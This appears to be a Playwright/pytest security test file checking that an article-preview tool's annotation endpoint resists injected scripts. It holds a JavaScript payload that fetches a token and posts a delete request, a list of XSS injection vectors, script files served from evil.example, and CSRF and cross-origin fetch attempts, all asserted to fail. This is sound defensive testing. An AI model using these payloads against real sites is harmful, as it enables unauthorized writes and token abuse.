"""What an article brings along, or slips past its cleaning, cannot write, nor learn what writing takes."""

import json
import time
from collections.abc import Callable, Iterator

import pytest
from annotating import ARTICLE, PATH, made_site
from annotating_pages import ADDRESS, bar_button, previewed, text_of, tool
from playwright.sync_api import Page, Route, expect
from previewing import PATIENCE, Running

Visit = Callable[[str], Page]

ATTEMPT = """
(async () => {
  const base = document.querySelector("script[data-events]").dataset.events.replace("events", "annotate/");
  const article = "content/articles/ferry.md", ask = { "X-Glossator-Token": "ask" };
  const { token, digest } = await (await fetch(`${base}state?article=${article}`, { headers: ask })).json();
  const headers = { "X-Glossator-Token": token, "Content-Type": "application/json" };
  const body = JSON.stringify({ do: "delete", article, digest, label: "yard" });
  await fetch(`${base}do`, { method: "POST", headers, body });
})();
"""
"""What a script would do that ran in the page."""
ALONE = ATTEMPT.replace(
    'document.querySelector("script[data-events]").dataset.events.replace("events", "annotate/")',
    '"/__glossator/annotate/"',
)
"""The same on any page of the preview."""
PLACES = {
    "a script": "<script>{0}</script>",
    "a handler": "<img src=x onerror='{0}'>",
    "a drawing": "<svg onload='{0}'></svg>",
    "a link": "<a id=go href='javascript:{0}'>Go</a>",
    "a frame": "<iframe srcdoc='<script>parent.eval({1})</script>'></iframe>",
    "a frame's address": "<iframe src='javascript:parent.eval({1})'></iframe>",
    "a button": "<button id=go onclick='{0}'>Go</button>",
    "an animation": "<style>@keyframes x {{}}</style><b style='animation: x 1s' onanimationstart='{0}'>x</b>",
}


@pytest.fixture(scope="module")
def running(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """A preview for all of these tests: none of them may change its article."""
    with previewed(made_site(tmp_path_factory.mktemp("hostile"))) as one:
        yield one


@pytest.fixture
def visit(running: Running, new_page: Callable[..., Page]) -> Visit:
    """A function that opens the article's page with more in its text than the server sent."""

    def visited(smuggled: str) -> Page:
        (running.site / PATH).write_text(ARTICLE, encoding="utf-8")
        page, address = new_page(), f"{running.url}{ADDRESS}"

        def answered(route: Route) -> None:
            answer = route.fetch()
            route.fulfill(response=answer, body=answer.text().replace("It sank", f"{smuggled} It sank"))

        evil = {"body": ATTEMPT, "content_type": "text/javascript"}
        page.route("https://evil.example/**", lambda route: route.fulfill(**evil))
        page.route(address, answered)
        page.goto(address)
        expect(bar_button(page, "Annotate")).to_be_visible()
        return page

    return visited


def test_the_script_that_the_attacks_run_would_write(visit: Visit, running: Running) -> None:
    page = visit("")
    page.evaluate(ATTEMPT)
    assert "[^yard]" not in text_of(running.site)


@pytest.mark.parametrize("place", PLACES)
def test_what_slips_past_the_cleaning_is_run_by_no_browser(
    visit: Visit, running: Running, place: str
) -> None:
    page = visit(PLACES[place].format(_inline(ATTEMPT), _inline(json.dumps(ATTEMPT))))
    _provoke(page)
    assert text_of(running.site) == ARTICLE


def test_a_script_of_another_host_is_not_run(visit: Visit, running: Running) -> None:
    page = visit("<script src='https://evil.example/x.js'></script>")
    _provoke(page)
    assert text_of(running.site) == ARTICLE


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("evil.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>{0}</script></svg>"),
        ("evil.xhtml", "<html xmlns='http://www.w3.org/1999/xhtml'><body><script>{0}</script></body></html>"),
        ("evil.html", "<!doctype html><title>x</title><script>{1}</script><script src='evil.js'></script>"),
        ("evil.htm", "<!doctype html><title>x</title><script type='module' src='evil.js'></script>"),
    ],
)
def test_a_file_that_an_article_brings_along_runs_nothing_when_it_is_opened(
    running: Running, new_page: Callable[..., Page], name: str, text: str
) -> None:
    folder = (running.site / PATH).parent
    (running.site / PATH).write_text(ARTICLE, encoding="utf-8")
    (folder / "evil.js").write_text(ALONE, encoding="utf-8")
    (folder / name).write_text(text.format(_inline(ALONE).replace("<", "&lt;"), ALONE), encoding="utf-8")
    page, address = new_page(), f"{running.url}articles/{name}"
    until = time.monotonic() + PATIENCE
    while running.get(f"articles/{name}").status_code != 200 and time.monotonic() < until:
        time.sleep(0.05)
    page.goto(address)
    page.wait_for_timeout(500)
    assert text_of(running.site) == ARTICLE


def test_a_script_that_an_article_brings_along_is_not_run(visit: Visit, running: Running) -> None:
    ((running.site / PATH).parent / "evil.js").write_text(ALONE, encoding="utf-8")
    page = visit("<script src='../evil.js'></script><script type='module' src='../evil.js'></script>")
    _provoke(page)
    assert text_of(running.site) == ARTICLE


def test_an_articles_own_html_runs_nothing(running: Running, new_page: Callable[..., Page]) -> None:
    # Links of a kind that may not stand in a page are errors: then the last good page stays.
    places = [
        place.replace("src=x", "src='https://example.org/x'")
        for place in PLACES.values()
        if "<a " not in place
    ]
    scripts = [place.format(_inline(ATTEMPT), _inline(json.dumps(ATTEMPT))) for place in places]
    hostile = ARTICLE + "\n" + "\n\n".join(f"{one}\n\nWords {one} words." for one in scripts) + "\n"
    (running.site / PATH).write_text(hostile, encoding="utf-8")
    until = time.monotonic() + PATIENCE
    while "Words" not in running.get(ADDRESS).text and time.monotonic() < until:
        time.sleep(0.05)
    page = new_page()
    page.goto(f"{running.url}{ADDRESS}")
    expect(page.get_by_role("main").get_by_text("Words").first).to_be_visible()
    _provoke(page)
    assert text_of(running.site) == hostile


def test_a_form_in_the_article_writes_nothing(visit: Visit, running: Running) -> None:
    page = visit("")
    page.evaluate(
        """() => {
          const made = document.createElement("form");
          made.method = "post"; made.enctype = "text/plain"; made.target = "_blank";
          made.action = document.querySelector("script[data-events]").dataset.events.replace("events", "annotate/do");
          document.body.append(made); made.submit();
        }"""
    )
    page.wait_for_timeout(300)
    assert text_of(running.site) == ARTICLE


def test_another_sites_page_reaches_nothing(running: Running, new_page: Callable[..., Page]) -> None:
    page, before = new_page(), text_of(running.site)
    page.route(
        "http://evil.example/", lambda route: route.fulfill(body="<p>Evil</p>", content_type="text/html")
    )
    page.goto("http://evil.example/")
    seen = page.evaluate(
        """async (base) => {
          const found = [];
          const tries = [
            [`${base}state?article=content/articles/ferry.md`, {}],
            [`${base}state?article=content/articles/ferry.md`, { headers: { "X-Glossator-Token": "ask" } }],
            [`${base}do`, { method: "POST", body: "{}" }],
            [`${base}do`, { method: "POST", body: "{}", headers: { "Content-Type": "application/json" } }],
          ];
          for (const [address, options] of tries) {
            try { found.push(await (await fetch(address, options)).text()); } catch { found.push("refused"); }
          }
          return found;
        }""",
        f"{running.url}__glossator/annotate/",
    )
    assert seen == ["refused"] * 4
    assert text_of(running.site) == before


def test_the_token_is_nowhere_in_the_page(visit: Visit) -> None:
    page = visit("")
    tokens: list[str] = []
    page.on(
        "response",
        lambda answer: tokens.append(answer.json()["token"]) if "annotate/state" in answer.url else None,
    )
    page.keyboard.press("a")
    expect(tool(page).get_by_label("Words")).to_be_visible()
    page.wait_for_timeout(100)
    assert tokens
    seen = page.evaluate(
        """() => [document.documentElement.outerHTML, document.querySelector("glossator-annotate").shadowRoot.innerHTML,
          ...Object.keys(window).map((name) => { try { return `${window[name]}`; } catch { return ""; } }),
          JSON.stringify({ ...localStorage, ...sessionStorage }), document.cookie].join("\\n")"""
    )
    assert tokens[0] not in seen


def _provoke(page: Page) -> None:
    """What someone does who is led to: waits, and presses whatever is there."""
    go = page.locator("#go")
    for one in go.all():
        one.dispatch_event("click")
    page.wait_for_timeout(400)


def _inline(script: str) -> str:
    """A script as an attribute in single quotes has it, on one line."""
    return " ".join(script.split()).replace("&", "&amp;").replace("'", "&#39;")
